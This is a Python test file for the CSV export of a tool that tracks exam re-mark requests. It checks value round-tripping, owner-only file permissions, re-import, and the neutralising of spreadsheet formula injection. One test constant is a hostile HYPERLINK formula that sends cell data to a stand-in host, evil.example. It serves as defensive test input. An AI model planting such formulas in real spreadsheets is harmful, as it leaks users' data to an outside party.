"""`prs export --csv`: the tracking log as a spreadsheet-safe, owner-only CSV file."""

from __future__ import annotations

import csv
import json
import stat

import pytest

from prs_cli.render.requests import CSV_COLUMNS
from prs_cli.render.csvout import safe_cell, to_csv

NAME = "Zara Quill"
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def ok(result) -> str:
    assert result.exit_code == 0, result.stdout + result.stderr
    return result.stdout


def read(path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def log(cli):
    """Three requests: one answered, one a Service 3 sample, one draft with hostile text."""
    common = ["--today", "2026-08-14", "--ab", "AQA", "-q", "gce-a-level", "--by", "eo"]
    ok(cli("request", "add", *common, "--candidate", "0042", "--name", NAME, "--uci", "52204012345AB",
           "--component", "7402/1", "--service", "S2", "--grade", "B", "--mark", "50", "--subject", "History"))
    ok(cli("consent", "record", "--candidate", "0042", "--on", "2026-08-14", "--method", "form", "--covers", "S2",
           "--acknowledged-outcomes", "--series", "june-2026", "--today", "2026-08-14"))
    ok(cli("request", "submit", "1", "--received", "2026-08-15", "--ref", "AQA-1", "--today", "2026-08-15"))
    ok(cli("request", "outcome", "1", "--on", "2026-09-01", "--grade-after", "A", "--mark-after", "55",
           "--today", "2026-09-01"))
    ok(cli("request", "add", *common, "--component", "7402C", "--service", "S3"))
    ok(cli("request", "add", *common, "--candidate", "0043", "--name", "+44 7700 900123", "--component", "7402/2",
           "--service", "S1", "--note", INJECTION, "--private", "--fee", "8.70"))


def test_round_trip_of_values(cli, log, tmp_path):
    path = tmp_path / "log.csv"
    out = ok(cli("export", "--csv", str(path), "--today", "2026-09-10"))
    assert out == f"Wrote 3 requests to {path} (csv).\n"
    rows = read(path)
    assert tuple(rows[0]) == CSV_COLUMNS
    first = rows[0]
    # seed:000: S2 due 20 days after receipt; PEA-APP25: appeal within 30 days of the outcome.
    assert {k: first[k] for k in (
        "id", "series", "awarding_body", "candidate_number", "uci", "candidate_name", "private", "qualification",
        "subject", "component", "service", "original_mark", "original_grade", "fee", "request_deadline", "status",
        "logged_by", "received_on", "board_reference", "completion_due", "outcome_on", "mark_after", "grade_after",
        "outcome", "fee_refunded", "appeal_deadline", "overdue", "note",
    )} == {
        "id": "1", "series": "june-2026", "awarding_body": "AQA", "candidate_number": "0042",
        "uci": "52204012345AB", "candidate_name": NAME, "private": "no", "qualification": "gce-a-level",
        "subject": "History", "component": "7402/1", "service": "S2", "original_mark": "50", "original_grade": "B",
        "fee": "48.65", "request_deadline": "2026-09-24", "status": "completed", "logged_by": "eo",
        "received_on": "2026-08-15", "board_reference": "AQA-1", "completion_due": "2026-09-04",
        "outcome_on": "2026-09-01", "mark_after": "55", "grade_after": "A", "outcome": "up", "fee_refunded": "yes",
        "appeal_deadline": "2026-10-01", "overdue": "no", "note": "",
    }
    assert (rows[1]["service"], rows[1]["candidate_number"], rows[1]["fee"]) == ("S3", "", "270.30")
    # Every value matches what `prs request list --json` says.
    listed = json.loads(ok(cli("request", "list", "--json", "--today", "2026-09-10")))
    for row, record in zip(rows, listed):
        assert row["id"] == str(record["id"]) and row["status"] == record["status"]
        assert row["request_deadline"] == (record["request_deadline"] or "")
        assert row["completion_due"] == (record["completion_due"] or "")


def test_formula_injection_is_neutralised(cli, log, tmp_path):
    path = tmp_path / "log.csv"
    ok(cli("export", "--csv", str(path), "--today", "2026-09-10"))
    row = read(path)[2]
    assert row["note"] == "'" + INJECTION
    assert row["candidate_name"] == "'+44 7700 900123"
    assert row["private"] == "yes"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw


def test_file_is_owner_only(cli, log, tmp_path):
    path = tmp_path / "log.csv"
    ok(cli("export", "--csv", str(path)))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)
    ok(cli("export", "--csv", str(path)))  # rewriting an existing file makes it owner-only again
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_an_export_can_be_imported_again(cli, log, tmp_path):
    path = tmp_path / "log.csv"
    ok(cli("export", "--csv", str(path), "--today", "2026-09-10"))
    other = tmp_path / "other.sqlite3"
    ok(cli("request", "import", str(path), "--db", str(other), "--today", "2026-09-10"))
    before = json.loads(ok(cli("request", "list", "--json", "--today", "2026-09-10")))
    after = json.loads(ok(cli("request", "list", "--json", "--db", str(other), "--today", "2026-09-10")))
    # The quote that neutralised a formula on export is taken off again on import.
    keys = ("candidate", "name", "uci", "awarding_body", "qualification", "subject", "component", "service",
            "series", "mark_before", "grade_before", "fee", "private_candidate")
    assert [{k: r[k] for k in keys} for r in after] == [{k: r[k] for k in keys} for r in before]


def test_export_needs_a_file_and_a_folder(cli, tmp_path):
    result = cli("export")
    assert result.exit_code == 2 and result.stderr.startswith("Error: say what to write, for example --csv log.csv")
    result = cli("export", "--csv", str(tmp_path / "missing" / "log.csv"))
    assert result.exit_code == 2
    assert result.stderr == f"Error: cannot write {tmp_path / 'missing' / 'log.csv'}: folder {tmp_path / 'missing'} does not exist\n"


def test_an_empty_log_is_a_header(cli, tmp_path):
    path = tmp_path / "log.csv"
    ok(cli("export", "--csv", str(path)))
    assert path.read_bytes().decode("utf-8-sig") == ",".join(CSV_COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (None, ""), (True, "yes"), (False, "no"), (12, "12"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_to_csv_quotes_what_needs_quoting():
    assert to_csv(["a", "b"], [["x,y", 'say "hi"'], ["=cmd", None]]) == 'a,b\r\n"x,y","say ""hi"""\r\n\'=cmd,\r\n'
